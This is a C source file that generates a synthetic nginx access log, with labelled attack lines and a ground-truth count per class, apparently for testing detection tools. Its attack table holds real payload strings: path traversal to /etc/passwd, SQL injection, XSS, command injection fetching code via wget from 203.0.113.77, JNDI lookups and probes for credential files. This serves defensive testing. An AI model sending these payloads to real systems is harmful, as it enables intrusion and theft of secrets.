/* SPDX-License-Identifier: Apache-2.0 */
/*
 * An nginx access log in the combined format, about 240 bytes a line: visitors, crawlers, and about
 * 8 % requests that carry an attack or look for something.
 *
 * Every attack line is plain enough for its class to be beyond doubt; every other line is harmless,
 * though some of it uses words that also occur in attacks.
 */
#include "generate.h"

#include <stdlib.h>
#include <string.h>

enum class {
    CLASS_TRAVERSAL,
    CLASS_SQL,
    CLASS_SCRIPT,
    CLASS_COMMAND,
    CLASS_LOOKUP,
    CLASS_INCLUSION,
    CLASS_SHELL,
    CLASS_SECRET,
    CLASS_ADMIN,
    CLASS_CMS,
    CLASS_DEVICE,
    CLASS_PROXY,
    CLASS_SCANNER,
    CLASS_METHOD,
    CLASS_BINARY,
    CLASS_LOGIN,
    CLASS_COUNT
};

static const char *const class_names[CLASS_COUNT] = {"path-traversal", "sql-injection",
        "script-injection", "command-injection", "template-lookup", "file-inclusion", "web-shell",
        "secret-file", "admin-panel", "cms-probe", "device-probe", "proxy-abuse", "scanner-agent",
        "method-probe", "binary-request", "login-post"};

struct attack {
    enum class class;
    const char *request; /* as nginx writes it, escapes and all */
    int status;
};

static const struct attack attacks[] = {
        {CLASS_TRAVERSAL, "GET /assets/..%2f..%2f..%2f..%2fetc/passwd HTTP/1.1", 404},
        {CLASS_TRAVERSAL, "GET /reports?doc=../../../../../../etc/hosts HTTP/1.1", 200},
        {CLASS_TRAVERSAL, "GET /cgi-bin/%2e%2e/%2e%2e/%2e%2e/%2e%2e/bin/bash HTTP/1.1", 400},
        {CLASS_TRAVERSAL, "GET /theme/%252e%252e%252f%252e%252e%252fwindows%252fwin.ini HTTP/1.1",
                404},
        {CLASS_SQL,
                "GET /catalogue?item=7%27%20UNION%20SELECT%20login,secret%20FROM%20members-- HTTP/1.1",
                500},
        {CLASS_SQL, "GET /catalogue?item=7+AND+SLEEP(9) HTTP/1.1", 200},
        {CLASS_SQL, "GET /forum?topic=3%27%20OR%20%271%27=%271 HTTP/1.1", 200},
        {CLASS_SQL, "GET /forum?topic=3;WAITFOR%20DELAY%20%270:0:9%27-- HTTP/1.1", 404},
        {CLASS_SCRIPT, "GET /find?text=%3Cscript%3Ealert(7)%3C/script%3E HTTP/1.1", 200},
        {CLASS_SCRIPT, "GET /find?text=%22%3E%3Csvg%20onload=alert(7)%3E HTTP/2.0", 200},
        {CLASS_COMMAND, "GET /tools/ping?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1", 404},
        {CLASS_COMMAND, "GET /tools/ping?host=$(wget%20http://203.0.113.77/x) HTTP/1.1", 404},
        {CLASS_LOOKUP, "GET /?id=${jndi:ldap://203.0.113.77:1389/o} HTTP/1.1", 200},
        {CLASS_LOOKUP, "GET /%24%7Bjndi%3Armi%3A%2F%2F203.0.113.77%2Fo%7D HTTP/1.1", 404},
        {CLASS_INCLUSION,
                "GET /index.php?page=php://filter/convert.base64-encode/resource=config HTTP/1.1",
                200},
        {CLASS_INCLUSION, "GET /index.php?page=http://203.0.113.77/cmd.txt? HTTP/1.1", 404},
        {CLASS_SHELL, "GET /uploads/c99.php HTTP/1.1", 404},
        {CLASS_SHELL, "POST /wso.php HTTP/1.1", 404},
        {CLASS_SECRET, "GET /.env HTTP/1.1", 404},
        {CLASS_SECRET, "GET /.git/config HTTP/1.1", 404},
        {CLASS_SECRET, "GET /app/.env.production HTTP/1.1", 404},
        {CLASS_SECRET, "GET /.aws/credentials HTTP/1.1", 403},
        {CLASS_SECRET, "GET /wp-config.php.bak HTTP/1.1", 404},
        {CLASS_ADMIN, "GET /phpmyadmin/index.php HTTP/1.1", 404},
        {CLASS_ADMIN, "GET /manager/html HTTP/1.1", 404},
        {CLASS_ADMIN, "GET /pma/index.php?lang=en HTTP/1.1", 404},
        {CLASS_CMS, "GET /wp-login.php HTTP/1.1", 404},
        {CLASS_CMS, "GET /wp-includes/wlwmanifest.xml HTTP/1.1", 404},
        {CLASS_CMS, "GET /wp-admin/install.php HTTP/1.1", 404},
        {CLASS_DEVICE, "GET /boaform/admin/formLogin?username=user&psd=user HTTP/1.0", 404},
        {CLASS_DEVICE, "POST /HNAP1/ HTTP/1.0", 404},
        {CLASS_PROXY, "CONNECT mail.example.net:25 HTTP/1.1", 400},
        {CLASS_PROXY, "GET http://check.example.net/ip HTTP/1.1", 400},
        {CLASS_METHOD, "PROPFIND / HTTP/1.1", 405},
        {CLASS_BINARY, "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03", 400},
        {CLASS_BINARY,
                "\\x03\\x00\\x00\\x13\\x0E\\xE0\\x00\\x00\\x00\\x00\\x00\\x01\\x00\\x08\\x00\\x03",
                400},
        {CLASS_LOGIN, "POST /wp-login.php HTTP/1.1", 200},
        {CLASS_LOGIN, "POST /xmlrpc.php HTTP/1.1", 200},
};

static const char *const hostile_agents[] =
        {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/103.0.0.0 Safari/537.36",
                "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0",
                "-", "python-requests/2.28.2", "Go-http-client/1.1", "curl/7.81.0"};
static const char *const scanner_agents[] = {"sqlmap/1.8.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)", "Mozilla/5.0 zgrab/0.x",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"};
static const char *const crawler_agents[] =
        {"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
                "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"};
static const char *const systems[] = {"Windows NT 10.0; Win64; x64", "X11; Linux x86_64",
        "Macintosh; Intel Mac OS X 10_15_7", "Linux; Android 13; Pixel 7"};
static const char *const words[] = {"river", "harbour", "garden", "market", "winter", "station",
        "letters", "museum", "orchard", "bridge", "weather", "council", "library", "concert",
        "recipe", "history", "travel", "selection", "union", "drop", "table", "script", "admiral",
        "system"};
static const char *const endings[] = {"", "", "", "/", ".html", ".html", ".css", ".js", ".png",
        ".jpg", ".svg", ".woff2", ".json", ".pdf"};
static const char *const referers[] = {"-", "-", "https://www.example.org/",
        "https://www.example.org/market/garden.html",
        "https://search.example.net/?q=harbour+museum",
        "https://news.example.com/2026/09/harbour?utm_source=letter"};

struct access_state {
    struct output out;
    struct random random;
    struct ticker ticker;
    char stamp[64];
    uint64_t attack_lines, class_lines[CLASS_COUNT], crawler_lines;
};

static const char *word(struct access_state *state)
{
    return words[random_below(&state->random, COUNT(words))];
}

static void put_head(struct access_state *state, const struct source *source, const char *user)
{
    if (ticker_next(&state->ticker, &state->random)) {
        const struct tm *t = &state->ticker.parts;
        (void)snprintf(state->stamp, sizeof(state->stamp), " [%02d/%s/%d:%02d:%02d:%02d +0000] \"",
                t->tm_mday, month_names[t->tm_mon], t->tm_year + 1900, t->tm_hour, t->tm_min,
                t->tm_sec);
    }
    put(&state->out, source->text);
    put(&state->out, " - ");
    put(&state->out, user);
    put(&state->out, state->stamp);
}

static void put_tail(struct access_state *state, unsigned status, uint64_t size,
        const char *referer, const char *agent)
{
    put(&state->out, "\" ");
    put_number(&state->out, status);
    put(&state->out, " ");
    put_number(&state->out, size);
    put(&state->out, " \"");
    put(&state->out, referer);
    put(&state->out, "\" \"");
    put(&state->out, agent);
    put(&state->out, "\"");
    end_line(&state->out);
}

/* A page is chosen by number, so that a popular number is always the same path. */
static void put_page(struct access_state *state, uint32_t page)
{
    struct random random = {page};
    for (uint32_t depth = 1 + random_below(&random, 3); depth > 0; depth--) {
        put(&state->out, "/");
        put(&state->out, words[random_below(&random, COUNT(words))]);
    }
    if (random_below(&random, 3) == 0) {
        put(&state->out, "/");
        put(&state->out, words[random_below(&random, COUNT(words))]);
        put(&state->out, "-");
        put_number(&state->out, random_below(&random, 100000));
    }
    put(&state->out, endings[random_below(&random, COUNT(endings))]);
}

static void put_query(struct access_state *state)
{
    switch (random_below(&state->random, 12)) {
    case 0:
        put(&state->out, "?q=");
        put(&state->out, word(state));
        put(&state->out, "+");
        put(&state->out, word(state));
        break;
    case 1:
        put(&state->out, "?page=");
        put_number(&state->out, random_below(&state->random, 300));
        break;
    case 2:
        put(&state->out, "?name=%C3%89t%C3%A9%20");
        put(&state->out, word(state));
        put(&state->out, "&lang=fr");
        break;
    case 3:
        put(&state->out, "?quote=\\x22");
        put(&state->out, word(state));
        put(&state->out, "\\x22");
        break;
    default:
        break;
    }
}

static unsigned ordinary_status(struct access_state *state)
{
    uint32_t chance = random_below(&state->random, 1000);
    return chance < 820   ? 200
           : chance < 900 ? 304
           : chance < 940 ? 301
           : chance < 985 ? 404
           : chance < 995 ? 206
                          : 500;
}

static void ordinary_agent(char *agent, size_t size, const struct source *source)
{
    unsigned version = 100 + source->agent % 40;
    const char *system = systems[source->agent % COUNT(systems)];
    if (source->agent % 5 == 0) {
        (void)snprintf(agent, size, "Mozilla/5.0 (%s; rv:%u.0) Gecko/20100101 Firefox/%u.0", system,
                version, version);
        return;
    }
    (void)snprintf(agent, size,
            "Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%u.0.%u.%u Safari/537.36",
            system, version, 4500u + source->agent * 7u, 40u + source->agent % 90u);
}

static void ordinary_line(struct access_state *state, struct source *source,
        const struct zipf *pages)
{
    char agent[200];
    ordinary_agent(agent, sizeof(agent), source);
    bool crawler = source->agent < 12;
    put_head(state, source, random_below(&state->random, 150) == 0 ? word(state) : "-");
    uint32_t method = random_below(&state->random, 100);
    put(&state->out, method < 93 ? "GET " : method < 98 ? "POST " : "HEAD ");
    put_page(state, zipf_draw(pages, &state->random));
    put_query(state);
    put(&state->out, random_below(&state->random, 2) == 0 ? " HTTP/1.1" : " HTTP/2.0");
    unsigned status = ordinary_status(state);
    uint64_t size = status == 304 ? 0 : 150 + random_below(&state->random, 90000);
    put_tail(state, status, size,
            crawler ? "-" : referers[random_below(&state->random, COUNT(referers))],
            crawler ? crawler_agents[source->agent % COUNT(crawler_agents)] : agent);
    state->crawler_lines += crawler;
    source->lines++;
}

static void attack_line(struct access_state *state, struct source *source)
{
    const struct attack *attack = &attacks[random_below(&state->random, COUNT(attacks))];
    enum class class = attack->class;
    put_head(state, source, "-");
    if (random_below(&state->random, 12) == 0) {
        class = CLASS_SCANNER;
        put(&state->out, "GET / HTTP/1.1");
        put_tail(state, 200, 615, "-", scanner_agents[source->agent % COUNT(scanner_agents)]);
    } else {
        put(&state->out, attack->request);
        put_tail(state, (unsigned)attack->status, attack->status == 200 ? 4096 : 153, "-",
                hostile_agents[source->agent % COUNT(hostile_agents)]);
    }
    state->attack_lines++;
    state->class_lines[class]++;
    source->lines++;
    source->attempts++;
}

static void write_truth(const struct access_state *state, const struct sources *sources,
        FILE *truth)
{
    truth_number(truth, "bytes", state->out.bytes);
    truth_number(truth, "lines", state->out.lines);
    truth_number(truth, "attempts", state->attack_lines);
    truth_number(truth, "crawler_lines", state->crawler_lines);
    for (int i = 0; i < CLASS_COUNT; i++) {
        char key[64];
        (void)snprintf(key, sizeof(key), "class %s", class_names[i]);
        truth_number(truth, key, state->class_lines[i]);
    }
    truth_sources(truth, sources, 0);
}

/* The sources that attack, so that one can be drawn among them. */
static uint32_t *list_hostile(const struct sources *sources, uint32_t *count)
{
    uint32_t *list = calloc(sources->count, sizeof(*list));
    for (uint32_t i = 0; list != NULL && i < sources->count; i++) {
        if (sources->all[i].hostile) {
            list[(*count)++] = i;
        }
    }
    return list;
}

bool generate_access(uint64_t bytes, uint64_t seed, FILE *log, FILE *truth)
{
    struct access_state state = {.out = {.file = log},
            .random = {seed},
            .ticker = {.now = 1790000000, .shown = -1, .step = 240}};
    uint32_t count = bytes / 4000 > 2000 ? (uint32_t)(bytes / 4000) : 2000, hostile_count = 0;
    struct sources sources = {0};
    struct zipf visitors = {0}, attackers = {0}, pages = {0};
    uint32_t *hostile = NULL;
    bool good = sources_init(&sources, count, 7, seed ^ 0x5eed) &&
                (hostile = list_hostile(&sources, &hostile_count)) != NULL && hostile_count > 0 &&
                zipf_init(&visitors, count, 25) && zipf_init(&attackers, hostile_count, 8) &&
                zipf_init(&pages, 20000, 4);
    while (good && state.out.bytes < bytes && ferror(log) == 0) {
        if (random_below(&state.random, 100) < 8) {
            attack_line(&state, &sources.all[hostile[zipf_draw(&attackers, &state.random)]]);
        } else {
            ordinary_line(&state, &sources.all[zipf_draw(&visitors, &state.random)], &pages);
        }
    }
    if (good) {
        write_truth(&state, &sources, truth);
    }
    zipf_clear(&pages);
    zipf_clear(&attackers);
    zipf_clear(&visitors);
    free(hostile);
    sources_clear(&sources);
    return good;
}
